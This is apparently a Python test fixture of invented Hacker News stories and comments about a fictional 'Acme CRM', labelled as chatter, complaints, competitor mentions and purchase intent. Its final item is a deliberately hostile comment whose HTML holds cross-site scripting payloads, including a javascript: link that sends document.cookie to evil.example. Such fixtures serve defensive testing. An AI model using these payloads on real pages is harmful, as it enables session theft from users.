"""Hacker News: stories and comments that Algolia's search finds for "acme". `parent` is the
story or comment a comment answers (by key)."""

from . import P

ITEMS = [
    P("chatter", d="11-06", key="hn.clean-crm",
      title="Ask HN: How do you keep a small sales team's CRM clean?",
      text="""
We're six people on Acme CRM. Every quarter the data rots: duplicate companies, deals with close dates in the past, contacts who left their jobs two years ago. We've tried "everyone cleans their own", which means nobody does.

Does anyone have a process that actually sticks? Tools, rituals, bribery?
"""),
    P("chatter", d="11-06", parent="hn.clean-crm",
      text="A weekly 20 minute \"data janitor\" rotation. One person, one list of reports in Acme (stale deals, companies with no owner, bounced emails), and they fix what they can. It's boring and it works."),
    P("chatter", d="11-06", parent="hn.clean-crm",
      text="Make the CRM the only place your commission is calculated from. Data quality improves overnight. Works in Acme, Salesforce, whatever."),
    P("chatter", d="11-07", parent="hn.clean-crm", by="c:kenji",
      text="We use Acme's required fields per stage. You can't move a deal to \"proposal\" without a close date and an amount. Annoying for a week, then nobody notices."),
    P("chatter", d="11-08", key="hn.webhook-signing", link="https://github.com/acme-crm/webhook-signature",
      title="Acme CRM open-sources its webhook signing library",
      text=""),
    P("chatter", d="11-08", parent="hn.webhook-signing",
      text="Nice to see HMAC with a timestamp in the signed payload. Too many vendors still sign only the body, which makes replay trivial. Acme got this right."),
    P("chatter", d="11-08", parent="hn.webhook-signing",
      text="MIT licensed, Go, Python and TypeScript. The Rust port is someone's weekend project linked from the README."),
    P("chatter", d="11-10", key="hn.sync-411", link="https://acmecrm.example/changelog/sync-4-11",
      title="Acme Sync 4.11: faster mobile sync and a conflict view", text=""),
    P("chatter", d="11-10", parent="hn.sync-411",
      text="\"Contacts edited on mobile now sync in under a minute\" is the kind of feature that's either great or a disaster. Curious which one this turns out to be for Acme."),
    P("complaint", d="11-12", parent="hn.sync-411",
      text="Disaster, for us. Since 4.11 every contact edited on two devices the same day shows up twice. 700 duplicates at our company so far, and Acme support has nothing but \"we're aware\"."),
    P("chatter", d="11-13", key="hn.show-merge-cli", link="https://github.com/dedupe-tools/acme-merge",
      title="Show HN: A CLI to bulk-merge duplicate contacts in Acme CRM",
      text="""
After the 4.11 sync bug left us with about 1,200 duplicate contacts, I wrote a small tool that finds duplicates by email and phone through the Acme API and merges them in batches, respecting the rate limit. It does a dry run by default and writes a CSV of what it would merge.

Feedback welcome, especially on the matching rules.
"""),
    P("chatter", d="11-13", parent="hn.show-merge-cli",
      text="Dry run by default is the right call. Ran it against our Acme sandbox and it found 340 pairs, all correct as far as I can tell."),
    P("chatter", d="11-13", parent="hn.show-merge-cli",
      text="Suggestion: treat +1 (555) and 555- formats as the same number. We had a lot of those in Acme from a web form."),
    P("chatter", d="11-15", key="hn.migration-costs", link="https://ops-notebook.example/posts/crm-migrations",
      title="The hidden cost of CRM migrations",
      text=""),
    P("competitor", d="11-15", parent="hn.migration-costs",
      text="We moved from HubSpot to Acme two years ago. The article's right that data migration is the smaller part. The real cost was six months of people rebuilding their personal workflows and complaining that the old way was better."),
    P("competitor", d="11-15", parent="hn.migration-costs",
      text="The lock-in is the point of the pricing models. HubSpot, Salesforce, Acme: all cheap to start and expensive to leave."),
    P("chatter", d="11-17", key="hn.webhooks-v3", link="https://acmecrm.example/blog/webhooks-v3",
      title="Acme CRM moves webhooks to a new delivery system", text=""),
    P("complaint", d="11-17", parent="hn.webhooks-v3", by="c:tom",
      text="""
We've been on Acme CRM for two years. Since the v3 webhook migration the retries silently stop after the third failure, so we lost a full day of deal events last week and had to backfill by hand.

Support's answer was "working as intended". That is not an answer.
"""),
    P("chatter", d="11-17", parent="hn.webhooks-v3", by="c:lena",
      text="Counterpoint: we run Acme Sync across three offices and the v3 deliveries have been faster for us. Retries aside, the event ordering is finally right."),
    P("chatter", d="11-18", parent="hn.webhooks-v3",
      text="Three retries with no dead letter queue is a strange design choice in 2026. Stripe retries for three days. Hopefully Acme adds a replay endpoint."),
    P("chatter", d="11-18", parent="hn.webhooks-v3", by="staff:acme_jordan",
      text="I work on webhooks at Acme. The retry limit is a bug, not a policy: v3 was supposed to retry with backoff for 24 hours. A fix is rolling out this week, and we're adding an endpoint to replay the last 7 days of events. Sorry to everyone who lost events."),
    P("chatter", d="11-18", parent="hn.webhooks-v3",
      text="Appreciate an engineer showing up in the thread. That's more than most vendors manage."),
    P("intent", d="11-20", key="hn.five-person-crm",
      title="Ask HN: A CRM for a five person B2B startup that isn't HubSpot?",
      text="""
We're five people selling to mid-size logistics companies and outgrew our spreadsheet. HubSpot's pricing jumps once you need sequences. We are trialling Acme CRM and Pipedrive this month.

What do you use, and what would you pick today? Budget is around $50 per seat.
"""),
    P("competitor", d="11-20", parent="hn.five-person-crm",
      text="Pipedrive if it's purely pipeline and you live in the deal view. Acme if you also handle support from the same team, because Acme Inbox is genuinely good."),
    P("chatter", d="11-20", parent="hn.five-person-crm", by="c:yuki",
      text="We're a freight company on Acme, 40 users now. Started at 5. It scaled fine, and their support has been responsive. Pricing was predictable until this year."),
    P("chatter", d="11-20", parent="hn.five-person-crm",
      text="Spreadsheet plus discipline takes you further than people think. At five people I'd wait."),
    P("intent", d="11-21", parent="hn.five-person-crm",
      text="Following this. We're in almost the same spot (4 people, selling to clinics) and about to start an Acme CRM trial. Anyone know if their annual plan has a startup discount?"),
    P("chatter", d="11-22", key="hn.ai-triage", link="https://acmecrm.example/blog/inbox-triage",
      title="Acme Inbox gets AI triage", text=""),
    P("chatter", d="11-22", parent="hn.ai-triage",
      text="The interesting part is that it uses CRM context: customer tier, open deals, past tickets. That's the moat a standalone help desk doesn't have. Acme should lead with that."),
    P("chatter", d="11-22", parent="hn.ai-triage",
      text="Does it send email content to a third-party model provider? The post doesn't say, and for anyone in healthcare that's the first question."),
    P("chatter", d="11-23", parent="hn.ai-triage", by="c:rachel",
      text="We're in the beta. Insurance, so we asked exactly that: Acme runs the model in their own EU and US regions, no third party. It's decent at urgency, less good at topic."),
    P("complaint", d="11-24", key="hn.outage", link="https://status.acmecrm.example/incidents/eu-2411",
      title="Acme CRM down in the EU for three hours", text=""),
    P("complaint", d="11-24", parent="hn.outage",
      text="Three hours during a Monday morning and the status page stayed green for the first 40 minutes. We found out from our own customers. Acme's incident communication was terrible."),
    P("complaint", d="11-24", parent="hn.outage", by="c:victor",
      text="Our dispatchers couldn't see a single shipment. Third Acme incident this month. I'm writing the business case for leaving today."),
    P("chatter", d="11-24", parent="hn.outage",
      text="Every SaaS has outages. What matters is the post-mortem. Let's see what Acme publishes."),
    P("chatter", d="11-25", key="hn.postmortem", link="https://acmecrm.example/blog/eu-outage-postmortem",
      title="Acme outage post-mortem: the standby was 40 minutes behind", text=""),
    P("chatter", d="11-25", parent="hn.postmortem",
      text="Good write-up. Replication lag alarms that page someone are table stakes, but at least Acme is candid about not having had them."),
    P("chatter", d="11-25", parent="hn.postmortem", by="c:peter",
      text="The part about tying the status page to monitoring instead of a human is the real fix. Glad they're doing it."),
    P("chatter", d="11-26", key="hn.sync-412", link="https://acmecrm.example/changelog/sync-4-12",
      title="Acme Sync 4.12 fixes duplicate contacts and adds batch merge", text=""),
    P("chatter", d="11-26", parent="hn.sync-412",
      text="Merged 900 duplicates in about a minute with the new Acme tool. The CLI from the Show HN last week is now redundant, which is the best outcome for that kind of project."),
    P("chatter", d="11-27", key="hn.crm-data-model",
      title="Ask HN: How do CRMs model people who change jobs?",
      text="""
Genuinely curious about the data model. When a contact moves from company A to company B, Salesforce makes you create a new contact, HubSpot sort of tracks it, Acme keeps one person with a history of employers.

Which approach works best for relationship-driven sales?
"""),
    P("chatter", d="11-27", parent="hn.crm-data-model",
      text="One person, many employments is the only model that matches reality. Acme's approach is the right one, though their UI for it is clunky."),
    P("chatter", d="11-27", parent="hn.crm-data-model",
      text="The hard part is knowing the person moved. Acme and HubSpot both rely on email bounces plus LinkedIn, which is hit and miss."),
    P("complaint", d="12-01", key="hn.price-rise", link="https://saasweekly.example/2026/12/01/acme-crm-raises-inbox-prices",
      title="Acme CRM raises Inbox prices 26% for 2027", text=""),
    P("complaint", d="12-01", parent="hn.price-rise",
      text="26% in the same month as a three hour outage and a sync bug that ate contacts. Acme's timing is remarkable."),
    P("competitor", d="12-01", parent="hn.price-rise",
      text="HubSpot and Pipedrive both raised prices this year too. The whole category is squeezing existing customers because new logos got expensive."),
    P("complaint", d="12-01", parent="hn.price-rise", by="c:rachel",
      text="We have 60 Inbox seats. This is a five-figure increase on a product where reporting still needs a paid add-on. I've asked Acme for a call; if the answer is \"that's the new price\" we'll run an RFP."),
    P("chatter", d="12-02", parent="hn.price-rise",
      text="$24 per seat is still less than most help desks charge. The anger here is about the timing, not the number."),
    P("competitor", d="12-02", key="hn.self-hosted", intent=True,
      title="Ask HN: Self-hosted alternatives to Acme CRM and HubSpot?",
      text="""
After the Acme price increase our board asked me to look at self-hosted options. We're 20 people, mostly sales and support, on Acme today.

Has anyone run Twenty, EspoCRM or SuiteCRM in production? How much ops time does it take? We'd consider buying support from a vendor if the software is open.
"""),
    P("chatter", d="12-02", parent="hn.self-hosted",
      text="EspoCRM for three years at a 30 person company. It's fine, but the email integration is nowhere near Acme Inbox. Budget half a day a month for upgrades."),
    P("chatter", d="12-02", parent="hn.self-hosted",
      text="Self-hosting to save $5 per seat per month is a false economy at 20 people. Your time costs more."),
    P("chatter", d="12-03", key="hn.roadmap", link="https://acmecrm.example/blog/community-day-2026",
      title="Acme Community Day: the 2027 roadmap", text=""),
    P("chatter", d="12-03", parent="hn.roadmap",
      text="Offline attachments in Acme Mobile and exports over 10k rows. Both overdue, both welcome."),
    P("chatter", d="12-03", parent="hn.roadmap", by="c:kenji",
      text="Watched the livestream. The API workshop was good: they're finally publishing an OpenAPI spec for the whole Acme API."),
    P("intent", d="12-04", key="hn.at-scale",
      title="Ask HN: Who's running Acme CRM with 100+ seats?",
      text="""
We're a 120-person company evaluating Acme CRM to replace Salesforce for sales and support. The demo was good and the price is about a third of our Salesforce renewal.

If you run Acme at that size: how are permissions, reporting and API limits? Anything that broke as you grew? We'd like to sign in Q1.
"""),
    P("chatter", d="12-04", parent="hn.at-scale", by="c:victor",
      text="About 150 users on Acme Sync and Inbox at a logistics company. Permissions are fine, reporting needs Insights, and you'll want to ask for a higher API limit up front. Outages this autumn were the low point."),
    P("chatter", d="12-04", parent="hn.at-scale",
      text="Ask them for references at your size and actually call them. Any vendor demo looks good at 10 seats."),
    P("chatter", d="12-04", key="hn.openapi", link="https://developers.acmecrm.example/openapi",
      title="Acme CRM publishes an OpenAPI spec for its whole API", text=""),
    P("chatter", d="12-04", parent="hn.openapi",
      text="Generated a Rust client from the Acme spec in a minute. A couple of enums are missing values, but it's a big step up from hand-written docs."),
    P("chatter", d="12-03", parent="hn.roadmap",
      text="A status page driven by monitoring should be table stakes. Good that Acme says it out loud after the outage, though."),
    P("chatter", d="12-04", parent="hn.openapi",
      text="Nice to see webhooks described in the Acme spec too, with the payload schemas. That's rarer than it should be."),
    P("intent", d="12-04", parent="hn.at-scale",
      text="We're in a similar evaluation at 90 seats, Acme CRM against HubSpot Enterprise. Happy to share notes privately if you want to compare quotes before signing."),
    P("chatter", d="12-02", parent="hn.self-hosted",
      text="Twenty is promising but young. I'd stay on Acme for another year and revisit."),
    P("chatter", d="12-02", parent="hn.price-rise",
      text="Annual billing before February locks the old Acme price for a year. Buys you time to decide calmly."),
    P("chatter", d="11-26", parent="hn.sync-412",
      text="The release notes are unusually clear about what went wrong in 4.11. Whoever writes Acme's changelog deserves a raise."),
    P("chatter", d="11-22", parent="hn.ai-triage",
      text="Urgency sorting is easy to demo and hard to get right. I'll wait for reviews from Acme customers with real volume."),
    P("chatter", d="11-13", parent="hn.show-merge-cli",
      text="Starred. Would be great as an Acme marketplace app so non-developers can use it."),
    # Odd and hostile: markup in an HTML comment body.
    P("complaint", known="hostile_in_queue", d="12-02", parent="hn.price-rise", key="hn.hostile-comment", hostile="img onerror, javascript: link, inline event handler",
      text="Acme's billing page is broken too: the cancel button does nothing and support won't reply. Here's what it renders: (see below)",
      html="Acme&#x27;s billing page is broken too: the cancel button does nothing and support won&#x27;t reply.<p><img src=x onerror=\"alert(document.domain)\"><a href=\"javascript:fetch('https://evil.example/?c='+document.cookie)\" onclick=\"steal()\">cancel my Acme plan</a><p><span onmouseover=\"alert(1)\">I have been trying to cancel for two weeks.</span>"),
]
